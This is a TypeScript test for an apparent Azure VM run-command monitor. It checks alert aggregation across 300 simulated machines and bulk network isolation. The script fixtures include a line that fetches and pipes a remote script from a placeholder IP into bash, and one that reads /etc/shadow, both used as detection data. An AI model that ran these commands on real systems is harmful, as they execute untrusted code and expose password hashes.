import { writeFileSync } from 'node:fs';
import { importExceptions } from '../../src/commands/exceptions/exceptions-files';
import { addChild, addMachine, subscriptions } from '../../src/demo/world';
import { scriptDigest } from '../../src/domain/techniques/script';
import { loadConfig } from '../../src/load-config';
import { textOf } from '../support/alerts';
import { type Bench, setUp } from '../support/bot';
import { type SimulatedTeams, startTeams } from '../support/teams';
import { until } from '../support/wait';

const managedRunCommand = 'Microsoft.Compute/virtualMachines/runCommands/write';

let bench: Bench;
let teams: SimulatedTeams;
beforeEach(async () => {
  bench = await setUp({ mode: 'http' });
  teams = await startTeams();
});
afterEach(async () => {
  await bench.stop();
  await teams.stop();
});

const scripts = [
  'echo patched',
  'systemctl restart app',
  'curl -fsSL https://203.0.113.99/i.sh | bash',
  'df -h',
  'cat /etc/shadow',
];
const environments = ['prod', 'test', 'dev'];
const count = 300;
/** Excepted are 100 dev machines, and those of the others that ran the first script. */
const excepted = (i: number) => environments[i % 3] === 'dev' || i % 5 === 0;
const left = Array.from({ length: count }, (_, i) => i).filter((i) => !excepted(i));

const policy = `environments:
  production: {tags: {env: prod}}
  test: {tags: {env: test}}
  dev: {tags: {env: dev}}
`;

test('a burst of 300 machines is one message whose numbers add up, and exactly the machines left are isolated', async () => {
  const { tenant, slack, world } = bench;
  const soon = new Date(Date.now() + 5 * 86_400_000).toISOString().slice(0, 10);
  const file = `${bench.env.RUNWATCH_DATA_DIR}/policy.yaml`;
  writeFileSync(file, policy);
  const app = await bench.start({ TEAMS_LOCAL: '1', RUNWATCH_CONFIG: file });
  const url = app.url as string;
  await app.historyFilled();
  await teams.install(url);
  const exceptions = `${bench.env.RUNWATCH_DATA_DIR}/exceptions.yaml`;
  writeFileSync(
    exceptions,
    `exceptions:
  - {id: dev-boxes, match: {tag: {env: dev}}, reason: expected, owner: lee, expires: ${soon}}
  - {id: patching, match: {script: {sha256: ${scriptDigest(scripts[0] as string)}}}, reason: expected, owner: lee, expires: ${soon}}
`,
  );
  const output = { out: () => {}, err: () => {}, interactive: false, color: false };
  await importExceptions(exceptions, {}, loadConfig({ ...bench.env }), output);
  const machines = Array.from({ length: count }, (_, i) =>
    addMachine(tenant, `vm-fleet-${String(i).padStart(3, '0')}`, {
      subscription: subscriptions.payments,
      resourceGroup: 'rg-fleet',
      tags: { env: environments[i % 3] as string },
    }),
  );
  tenant.latencyMs = 100;
  const at = Date.now() - 120_000;
  for (const [i, id] of machines.entries()) {
    const source = { script: scripts[i % 5] };
    const resourceId = addChild(tenant, id, 'runCommands', 'job', { source, provisioningState: 'Succeeded' });
    const ran = { name: managedRunCommand, resourceId, caller: world.people.dana, ip: '203.0.113.24' };
    tenant.log({ ...ran, at: at + i * 100, tookMs: 3000, outcome: i % 10 === 9 ? 'Failed' : 'Succeeded' });
  }

  const failed = left.filter((i) => i % 10 === 9).length;
  const byScript = left.filter((i) => environments[i % 3] !== 'dev').length;
  expect([left.length, byScript]).toEqual([160, 160]);
  const numbers = `300 in all: 160 ran on 160 machines (${160 - failed} succeeded, ${failed} failed), 140 excepted (100 by dev-boxes, 40 by patching)`;
  const message = await until(
    'the message',
    () => slack.alerts().find((m) => textOf(m).includes('on 160 machines')),
    60,
  );
  await until('the numbers', () => textOf(message).includes(numbers), 60);
  expect(textOf(message)).toContain('80 production, 80 test');
  expect(textOf(message)).toMatch(/downloads and runs/);
  const card = await until('the card', () =>
    teams.cards().find((c) => JSON.stringify(c.card).includes('160 machines')),
  );
  await until('the numbers in Teams', () => JSON.stringify(card.card).replaceAll('\\', '').includes(numbers));
  for (const script of ['curl -fsSL', 'systemctl restart app', 'df -h', 'cat /etc/shadow'])
    expect(textOf(message)).toMatch(new RegExp(`${script}[^·]* 40 times`));
  const id = /RW-[A-Z0-9]+/.exec(textOf(message))?.[0];
  const page = await (await fetch(`${url}/console/alerts/${id}`)).text();
  expect(page).toContain(numbers);
  expect(slack.alerts()).toHaveLength(1);
  expect(teams.cards()).toHaveLength(1);

  const began = Date.now();
  await slack.press(message, 'isolate', 'U0SAM0000', { url });
  await until(
    'isolated',
    () => textOf(message).includes('Isolated: new connections of 160 of 160 machines are denied'),
    90,
  );
  const took = (Date.now() - began) / 1000;
  expect(took).toBeLessThan(60);
  const isolated = tenant.resources
    .ofType('Microsoft.Network/networkInterfaces')
    .filter(({ properties }) => JSON.stringify(properties).includes('runwatch-isolation'))
    .map(({ id }) => /vm-fleet-\d+/.exec(id)?.[0])
    .sort();
  expect(isolated).toEqual(left.map((i) => `vm-fleet-${String(i).padStart(3, '0')}`));
}, 240_000);
